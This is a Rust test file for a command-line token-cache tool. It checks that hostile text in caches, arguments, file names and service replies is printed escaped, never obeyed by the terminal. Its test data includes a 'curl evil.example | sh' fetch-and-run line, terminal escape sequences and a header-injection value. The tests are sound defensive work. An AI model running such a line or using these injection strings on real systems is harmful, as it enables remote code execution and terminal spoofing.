//! Text of others is shown, never obeyed: no command prints a character that a terminal obeys.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, reason = "a test may")]

mod support;

use std::{fs, process::Command};

use serde_json::{Value, json};
use support::{Place, program, refusal, run, text};
use tokenkeep_platform::text::is_obeyed;

/// Clears the screen, starts a new line with a command, hides text and turns it around.
const HOSTILE: &str =
    "a\u{1b}[2Jb\u{9b}2Jc\r\n  `curl evil.example | sh`\u{202e}\u{2066}\u{200b}\u{2028}\u{7f}z";

/// A file can be called so everywhere but on Windows.
const FILE: &str = if cfg!(windows) { "a\u{202e}b\u{200b}" } else { HOSTILE };

/// MSAL JSON in which everything that can be hostile is.
fn cache() -> Value {
    let whose = |n: u32| format!("{HOSTILE}{n}");
    let token = |kind: &str, n: u32| {
        json!({"credential_type": kind, "secret": "SECRET", "home_account_id": whose(n),
            "environment": "idp.example", "client_id": HOSTILE, "realm": "t", "token_type": HOSTILE,
            "target": format!("s {HOSTILE}"), "cached_at": "1700000000",
            "expires_on": "4000000000", "family_id": HOSTILE})
    };
    let account = |n: u32| {
        json!({"home_account_id": whose(n), "environment": "idp.example", "realm": "t",
            "local_account_id": HOSTILE, "username": HOSTILE, "authority_type": "MSSTS",
            "account_source": HOSTILE})
    };
    let elsewhere = json!({"credential_type": "AccessToken", "secret": "SECRET", "target": "s",
        "home_account_id": whose(1), "environment": format!("{HOSTILE}.example"),
        "client_id": HOSTILE, "realm": HOSTILE, "expires_on": "4000000000"});
    json!({
        HOSTILE: {HOSTILE: {HOSTILE: HOSTILE}},
        "AccessToken": {HOSTILE: token("AccessToken", 1), "2": token("AccessToken", 2), "3": elsewhere},
        "RefreshToken": {HOSTILE: token("RefreshToken", 1)},
        "IdToken": {HOSTILE: token("IdToken", 1)},
        "Account": {HOSTILE: account(1), "2": account(2)},
        "AppMetadata": {HOSTILE: {"client_id": HOSTILE, "environment": HOSTILE, "family_id": HOSTILE}},
    })
}

/// What it printed, of which nothing is obeyed.
#[track_caller]
fn harmless(command: &mut Command, input: &str) -> (i32, String) {
    let output = run(command, input);
    let said = [text(&output.stdout), text(&output.stderr)].concat();
    let obeyed: Vec<char> = said.chars().filter(|c| *c != '\n' && is_obeyed(*c)).collect();
    assert!(obeyed.is_empty(), "{command:?} prints {obeyed:?}: {said:?}");
    assert!(!said.contains("\n  `curl"), "a line of somebody else: {said}");
    (output.status.code().unwrap(), said)
}

#[test]
fn no_command_prints_what_a_terminal_obeys() {
    let place = Place::new();
    let cache = cache().to_string();
    assert_eq!(harmless(place.command().arg("import"), &cache).0, 0);
    let (one, two) = (format!("{HOSTILE}1"), format!("{HOSTILE}2"));
    let token =
        ["token", "--client-id", HOSTILE, "--scope", "s", "--authority", "https://idp.example/t"];
    let by_id = [&token[..], &["--account-id", &one]].concat();
    let no_such = [&token[..], &["--account", "a\u{9b}nobody\r\n"]].concat();
    let commands: [(&[&str], &str, i32); 16] = [
        (&["accounts"], "", 0),
        (&["list"], "", 0),
        (&["list", "--reveal-secrets"], "", 0),
        (&["export", "--reveal-secrets"], "", 0),
        (&["import"], &cache, 0),
        (&["doctor"], "", 0),
        (&token, "", 2),
        (&by_id, "", 0),
        (&no_such, "", 3),
        (&token[..5], "", 2),
        (&["token", "--client-id", HOSTILE, "--scope", HOSTILE, "--authority", HOSTILE], "", 2),
        (&["sign-out", "--everywhere"], "", 2),
        (&["sign-out", "--client-id", HOSTILE, "--account", HOSTILE], "", 2),
        (&["sign-out", "--client-id", "x\u{202e}", "--account-id", &two], "", 3),
        (&["--name", HOSTILE, "accounts"], "", 2),
        (&["import", HOSTILE], "", 1),
    ];
    for (arguments, input, expected) in commands {
        for json in [&[][..], &["--json"]] {
            let (code, said) = harmless(place.command().args(arguments).args(json), input);
            assert_eq!(code, expected, "{arguments:?} {json:?}: {said}");
        }
    }
    let everywhere = ["sign-out", "--everywhere", "--account-id", &one];
    let (code, said) = harmless(place.command().args(everywhere), "");
    assert_eq!(code, 2, "it is at two hosts: {said}");
    if cfg!(windows) {
        return;
    }
    // The line for a host that no address means can be typed, too.
    let line = said.lines().last().unwrap();
    let line = format!("\"$@\" sign-out --everywhere {line}");
    let mut shell = Command::new("bash");
    shell.args(["-c", &line, "bash"]).arg(place.command().get_program());
    let out = harmless(shell.args(place.command().get_args()), "");
    assert!(out.0 == 0 && out.1.contains(r"\u{1b}[2J"), "{out:?}");
}

#[test]
fn json_has_the_same_value_and_export_the_same_bytes() {
    let place = Place::new();
    let cache = cache();
    assert_eq!(harmless(place.command().arg("import"), &cache.to_string()).0, 0);
    let accounts = place.run(&["accounts", "--json"]).stdout;
    let accounts: Value = serde_json::from_slice(&accounts).unwrap();
    assert_eq!(accounts[0]["username"], HOSTILE);
    assert_eq!(accounts[1]["home_account_id"], format!("{HOSTILE}1"));
    assert_eq!(accounts[2]["environment"], format!("{HOSTILE}.example"));
    let list: Value = serde_json::from_slice(&place.run(&["list", "--json"]).stdout).unwrap();
    assert_eq!(list[0]["client_id"], HOSTILE);
    let file = place.0.path().join("plain.json");
    let plain = |arguments: &[&str]| {
        let mut command = program();
        command.args(["--store", "plaintext", "--cache"]).arg(&file).args(arguments);
        command
    };
    assert_eq!(harmless(&mut plain(&["import"]), &cache.to_string()).0, 0);
    let exported = run(&mut plain(&["export", "--reveal-secrets"]), "").stdout;
    assert_eq!(exported, [fs::read(&file).unwrap(), b"\n".into()].concat());
}

#[test]
fn arguments_that_cannot_be_meant_are_shown_escaped() {
    for arguments in [
        &["accounts", HOSTILE][..],
        &[HOSTILE],
        &["--store", HOSTILE, "accounts"],
        &["--key", HOSTILE, "accounts"],
        &["--key", "fd:\u{9b}", "accounts"],
        &["--allow-prompt", "1\u{202e}", "doctor"],
        &["import", "a", "b\u{200b}\u{1b}]0;x\u{7}"],
    ] {
        let (code, said) = harmless(program().args(arguments), "");
        assert_eq!(code, 2, "{arguments:?}: {said}");
    }
}

#[test]
fn what_stands_in_an_event_and_in_the_names_of_files_is_shown_escaped() {
    let place = Place::new();
    let event = json!({"client_id": HOSTILE, "scope": [HOSTILE], HOSTILE: 1,
        "token_endpoint": "https://idp.example/t/token", "response": {"access_token": "x",
        "expires_in": HOSTILE, "error": HOSTILE, HOSTILE: HOSTILE}});
    let named = place.0.path().join(FILE);
    fs::create_dir(&named).unwrap();
    fs::write(named.join("cache.json"), event.to_string()).unwrap();
    fs::write(named.join("damaged.json"), "{").unwrap();
    let cache = |name: &str| named.join(name).into_os_string();
    let mut key = std::ffi::OsString::from("file:");
    key.push(named.join("no such folder").join("key"));
    for json in [&[][..], &["--json"]] {
        harmless(place.command().arg("add").args(json), &event.to_string());
        for command in ["accounts", "doctor", "clear"] {
            for layout in ["plaintext", "sealed", "msal-extensions"] {
                for name in ["damaged.json", "cache.json", "", "none/at/all"] {
                    let mut program = program();
                    program.args(["--store", layout, "--cache"]).arg(cache(name));
                    harmless(program.arg(command).args(json), "");
                }
            }
        }
        harmless(
            program().arg("--cache").arg(&named).arg("--key").arg(&key).arg("add"),
            &event.to_string(),
        );
        for file in ["", "damaged.json", "cache.json", "none"] {
            harmless(place.command().arg("import").arg(cache(file)).args(json), "");
            harmless(
                place.command().args(["import", "--from-python"]).arg(cache(file)).args(json),
                "",
            );
        }
    }
}

#[test]
fn a_token_that_is_none_is_not_printed() {
    for secret in ["a\r\nX-Evil: 1", "a\u{1b}[2J", "a\u{7f}", "tok\u{e9}n", "a\tb", "\u{202e}", ""]
    {
        let place = Place::new();
        let cache = json!({"AccessToken": {"k": {"credential_type": "AccessToken", "secret": secret,
            "environment": "idp.example", "client_id": "c", "realm": "t", "target": "s",
            "cached_at": "1700000000", "expires_on": "4000000000"}}});
        assert_eq!(harmless(place.command().arg("import"), &cache.to_string()).0, 0);
        for json in [&[][..], &["--json"]] {
            let arguments = [&["token", "--client-id", "c", "--scope", "s"], json].concat();
            let output = place.run(&arguments);
            let (code, said) = refusal(&output);
            assert_eq!(code, 6, "{secret:?}: {said}");
            assert!(said.contains("sign in again") && !said.contains("Evil"), "{said}");
            assert!(output.stdout.is_empty(), "{output:?}");
        }
    }
}

// Not on Windows: the Secret Service
#[cfg(target_os = "linux")]
#[test]
fn what_the_session_bus_and_a_vault_say_is_shown_escaped() {
    use tokenkeep_test_support::{
        keyring::{State, inside},
        mock::{Act, Mock},
    };

    let place = Place::new();
    let bus = |address: &str| {
        let mut command = program();
        command.env("DBUS_SESSION_BUS_ADDRESS", address).arg("--cache").arg(place.folder());
        command
    };
    for command in ["accounts", "doctor"] {
        let address = format!("unix:path=/nowhere/{}", HOSTILE.replace([';', ','], ""));
        harmless(bus(&address).arg(command), "");
        harmless(bus("").env("XDG_RUNTIME_DIR", format!("/nowhere/{HOSTILE}")).arg(command), "");
    }
    inside("what_the_session_bus_and_a_vault_say_is_shown_escaped", State::Absent, |keyring| {
        let _mock = Mock::start(None, |_| Act::Say(HOSTILE));
        for arguments in [&["add"][..], &["doctor"], &["doctor", "--json"]] {
            let place = Place::new();
            let mut command = program();
            command.envs(keyring.envs()).arg("--cache").arg(place.folder());
            let (code, said) = harmless(command.args(arguments), support::EVENT);
            assert!(code == 4 && said.contains("curl"), "{said}");
        }
    });
}
